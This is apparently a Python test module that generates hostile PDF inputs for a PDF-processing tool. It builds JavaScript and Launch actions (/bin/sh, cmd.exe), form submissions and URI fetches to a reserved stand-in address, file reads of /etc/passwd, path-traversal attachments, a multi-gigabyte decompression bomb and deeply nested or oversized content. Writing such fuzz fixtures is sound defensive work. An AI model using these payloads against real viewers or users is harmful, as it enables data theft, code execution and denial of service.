"""PDFs that would do something, hide something, or ask for much; all figures are invented."""

from __future__ import annotations

import io
import zlib

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.conftest import rows_page
from tests.hostile_drawn.damaged import NUMBERS, ROWS, Kind, Random, a_report
from tests.hostile_drawn.wired import text
from tests.raw_pdf import HELVETICA, raw_page, raw_pdf, said, stream

ELSEWHERE = b"http://192.0.2.1/x"  # an address that is nobody's (RFC 5737)


def scripts_and_launches(rng: Random) -> bytes:
    """JavaScript, programs to start, addresses to fetch: at every place that can have an action."""
    actions = (
        b"<</S/JavaScript/JS(this.submitForm\\(\\))>>",
        b"<</S/Launch/F(/bin/sh)/Unix(touch x)/Win<</F(cmd.exe)/P(/c x)>>>>",
        b"<</S/URI/URI(%b)>>" % ELSEWHERE,
        b"<</S/SubmitForm/F<</FS/URL/F(%b)>>/Flags 0>>" % ELSEWHERE,
        b"<</S/GoToR/F(//192.0.2.1/x)/D[0/Fit]/NewWindow true>>",
        b"<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>",
        b"<</S/ImportData/F(/etc/passwd)>>",
        b"<</S/Rendition/JS(1)/OP 0>>",
        b"<</S/JavaScript/JS 6 0 R/Next 7 0 R>>",
    )
    one, two, three = rng.sample(actions, 3)
    kind = rng.choice((b"Link", b"Widget", b"Screen", b"RichMedia", b"Movie", b"3D", b"Sound"))
    note = b"<</Type/Annot/Subtype/%b/Rect[0 0 900 900]/A %b/AA<</PV %b/E %b>>/FT/Tx/T(a)/V(9)>>"
    page = raw_page(
        text(rng),
        entries=b"/AA<</O %b/C %b>>/Annots[%b]" % (one, two, note % (kind, one, two, three)),
        others=[stream(b"while(1);"), b"<</S/JavaScript/JS 6 0 R/Next 7 0 R>>"],
    )
    root = b"/OpenAction %b/AA<</WC %b>>/Names<</JavaScript<</Names[(a) %b]>>>>" % (three, one, two)
    root += b"/AcroForm<</Fields[]/NeedAppearances true/CO[]/XFA[(template) 6 0 R]>>"
    return page.replace(b"<</Type/Catalog", b"<</Type/Catalog" + root)


def attached(rng: Random) -> bytes:
    """Files in the file: many, large, with names that lead elsewhere, and one that is itself."""
    names = (b"../../x", b"/etc/passwd", b"con", b"a\\000b", b"x.exe", b"\xfe\xff\x20\x2e")
    many = rng.choice((1, 30, 5_000))
    spec = b"<</Type/Filespec/F(%b)/UF(%b)/EF<</F 6 0 R/UF 6 0 R>>/RF<</F[(a) 6 0 R]>>>>"
    files = b"".join(b"(%d) %b" % (at, spec % ((rng.choice(names),) * 2)) for at in range(many))
    file = stream(rng.choice((b"MZ", a_report(rng))), b"/Type/EmbeddedFile/Params<</Size -1>>")
    note = b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS %b>>]" % (spec % (b"x", b"x"))
    page = raw_page(text(rng), entries=note, others=[file])
    root = b"/Names<</EmbeddedFiles<</Names[%b]>>>>/AF[%b]" % (files, spec % (b"x", b"x"))
    return page.replace(b"<</Type/Catalog", b"<</Type/Catalog" + root)


def streams_from_elsewhere(rng: Random) -> bytes:
    """Streams whose bytes are said to stand in another file, or at an address."""
    places = (
        b"/F(/etc/passwd)",
        b"/F<</FS/URL/F(%b)>>" % ELSEWHERE,
        b"/F(/dev/zero)/FFilter/FlateDecode",
        b"/Ref<</F(/etc/passwd)/Page 0>>",
    )
    page = raw_page(
        text(rng) + b"/X Do /I Do",
        resources=b"/XObject<</X 6 0 R/I 7 0 R>>",
        others=[
            stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]" + rng.choice(places)),
            stream(
                b"\0" * 9,
                b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8"
                b"/ColorSpace/DeviceGray" + rng.choice(places),
            ),
        ],
    )
    return page.replace(b"/Length", rng.choice(places) + b"/Length", rng.randint(0, 1))


def signed(rng: Random) -> bytes:
    """Signatures whose ranges of bytes are anywhere, with certificates of noise."""
    ranges = b" ".join(rng.choice(NUMBERS) for _ in range(rng.choice((0, 4, 4, 400))))
    signature = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/%b/ByteRange[%b]/Contents<%b>>>" % (
        rng.choice((b"adbe.pkcs7.detached", b"ETSI.CAdES.detached", b"x")),
        ranges,
        rng.randbytes(rng.randint(0, 9_000)).hex().encode(),
    )
    field = b"<</FT/Sig/Subtype/Widget/Rect[%b]/T(s)/V 6 0 R/Kids[7 0 R]/Parent 7 0 R/P 3 0 R>>"
    page = raw_page(
        text(rng),
        entries=b"/Annots[7 0 R]",
        others=[signature, field % rng.choice((b"0 0 0 0", b"0 0 900 900"))],
    )
    root = b"/AcroForm<</SigFlags 3/Fields[7 0 R]>>/Perms<</DocMDP 6 0 R>>/DSS<</Certs[6 0 R]>>"
    return page.replace(b"<</Type/Catalog", b"<</Type/Catalog" + root)


def gigabytes(rng: Random) -> bytes:
    """A stream that unpacks to up to some gigabytes, as content, picture, font or map."""
    piece = rng.choice((b"0 0 m 9 9 l S\n", b"(9) Tj 1 0 Td ", b"q ", b"\0", b"/X Do ", b"%"))
    packer = zlib.compressobj(9)
    block = packer.compress(piece * (2**20 // len(piece))) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush a block stands alone: so many of it unpack to so many megabytes.
    packed = zlib.compress(block + block[2:] * rng.choice((30, 300, 1_000, 4_000)), 9)
    large = stream(packed, b"/Filter[/FlateDecode/FlateDecode]")
    place = rng.choice(("content", "picture", "font", "map", "two"))
    if place == "picture":
        entries = b"/Type/XObject/Subtype/Image/Width %d/Height 60000/BitsPerComponent 8"
        entries += b"/ColorSpace/DeviceGray/Filter[/FlateDecode/FlateDecode]"
        image = stream(packed, entries % rng.choice((500, 60_000)))
        drawn = text(rng) + b"595 0 0 842 0 0 cm /I Do"
        return raw_page(drawn, resources=b"/XObject<</I 6 0 R>>", others=[image])
    if place in ("font", "map"):
        key = b"ToUnicode" if place == "map" else b"FontDescriptor<</FontFile2 6 0 R>>/X"
        page = raw_page(text(rng), others=[large])
        return page.replace(b"/BaseFont", b"/" + key + b" 6 0 R/BaseFont")
    page = raw_page(text(rng), others=[large, large])
    contents = b"/Contents[4 0 R 6 0 R]" if place == "content" else b"/Contents[6 0 R 7 0 R]"
    return page.replace(b"/Contents 4 0 R", contents)


def many_words(rng: Random) -> bytes:
    """Up to some millions of words on a page, or over some; of figures, or of names."""
    word = rng.choice((b"(1 )", b"(EULEX Kosovo 3 )", b"(woord )", b"(Soedan )"))
    many = rng.choice((9_000, 59_000, 200_000, 2_000_000)) // rng.choice((1, len(word)))
    lines = [
        b"BT /F1 %d Tf %d %d Td %bET"
        % (size, 9 + at % 500, 20 + at // 90 % 800, word + b" Tj " * 1)
        for at, size in enumerate(rng.choices((1, 4, 9), k=many))
    ]
    content = zlib.compress(text(rng) + b"\n".join(lines))
    pages = rng.choice((1, 1, 12))
    kids = b" ".join(b"%d 0 R" % (5 + at) for at in range(pages))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R"
    page += b"/Resources<</Font<</F1 4 0 R>>>>>>"
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, pages),
            stream(content, b"/Filter/FlateDecode"),
            HELVETICA,
            *[page] * pages,
        ]
    )


def many_pages(rng: Random) -> bytes:
    """Up to 100,000 pages: each an object, or one page that many times."""
    many = rng.choice((900, 4_900, 20_000, 100_000))
    one = rng.random() < 0.5
    kids = b" ".join(b"%d 0 R" % (5 if one else 5 + at) for at in range(many))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R"
    page += b"/Resources<</Font<</F1 4 0 R>>>>>>"
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, many),
            stream(text(rng)),
            HELVETICA,
            *[page] * (1 if one else many),
        ]
    )


def deep_content(rng: Random) -> bytes:
    """Content nested thousands deep: states, texts, strings, arrays, marks."""
    once, ends = rng.choice(
        (
            (b"q ", b"Q "),
            (b"BT ", b"ET "),
            (b"[", b"]"),
            (b"(", b")"),
            (b"<<", b">>"),
            (b"/A<</B ", b">>BDC "),
            (b"/A BMC ", b"EMC "),
            (b"BI /W 9 ID ", b" EI "),
        )
    )
    deep = rng.choice((500, 30_000, 300_000))
    closed = rng.choice((deep, deep // 2, 0))
    return raw_page(text(rng) + once * deep + ends * closed + said("na alles", top=300))


def pictures_of_noise(rng: Random) -> bytes:
    """Pictures in every coding, of noise, with sizes that lie and filters in a long row."""
    coding = rng.choice((b"DCT", b"JPX", b"JBIG2", b"CCITTFax", b"LZW", b"RunLength", b"ASCII85"))
    heads = {b"DCT": b"\xff\xd8\xff\xe0\0\x10JFIF\0", b"JPX": b"\0\0\0\x0cjP  \r\n\x87\n"}
    filters = b"/%bDecode" % coding * rng.choice((1, 1, 2, 900))
    sizes = (b"9", b"60000", b"2147483647", b"-1", b"0")
    entries = b"/Type/XObject/Subtype/Image/Width %b/Height %b/BitsPerComponent %b/ColorSpace/%b"
    entries %= (
        rng.choice(sizes),
        rng.choice(sizes),
        rng.choice((b"1", b"8", b"16", b"-8")),
        (rng.choice((b"DeviceGray", b"DeviceCMYK", b"Nul", b"Pattern"))),
    )
    entries += b"/Filter[%b]/DecodeParms[<</K -1/Columns %b/Predictor 15/Colors %b>>]" % (
        filters,
        rng.choice(sizes),
        rng.choice(sizes),
    )
    data = heads.get(coding, b"") + rng.randbytes(rng.randint(0, 9_000))
    drawn = text(rng) + b"595 0 0 842 0 0 cm /I Do"
    return raw_page(drawn, resources=b"/XObject<</I 6 0 R>>", others=[stream(data, entries)])


def noise(rng: Random) -> bytes:
    """No PDF at all, or only its head: noise, another kind of file, or nothing."""
    return rng.choice(
        (
            b"",
            b"%PDF-1.7\n" + rng.randbytes(rng.randint(0, 90_000)),
            b"PK\3\4" + rng.randbytes(900),
            b"<html>%PDF-1.7</html>",
            rng.randbytes(rng.randint(1, 9_000)),
            b"%PDF-1.7\n%%EOF\n" * rng.randint(1, 900),
            b"\0" * rng.randint(1, 2_000_000),
        )
    )


def with_password(rng: Random, password: str = "geheim") -> bytes:
    """A report that is locked with a password, by 40 or 128 bits."""
    lock = StandardEncryption(password, ownerPassword="beheer", strength=rng.choice((40, 128)))
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=(595, 842), encrypt=lock, invariant=1)
    page = rows_page(ROWS[: rng.randint(1, 3)])
    page[0] = (60, 60, f"Bijlage 5 bij het eerste halfjaarbericht {rng.randint(1990, 2040)}")
    for x, y, words in page:
        canvas.drawString(x, 842 - y, words)
    canvas.showPage()
    canvas.save()
    return target.getvalue()


def empty_password(rng: Random) -> bytes:
    """What viewers open: a report that is locked with the empty password."""
    return with_password(rng, "")


ACTIVE: tuple[Kind, ...] = (
    scripts_and_launches,
    attached,
    streams_from_elsewhere,
    signed,
    gigabytes,
    many_words,
    many_pages,
    deep_content,
    pictures_of_noise,
    noise,
    with_password,
    empty_password,
)
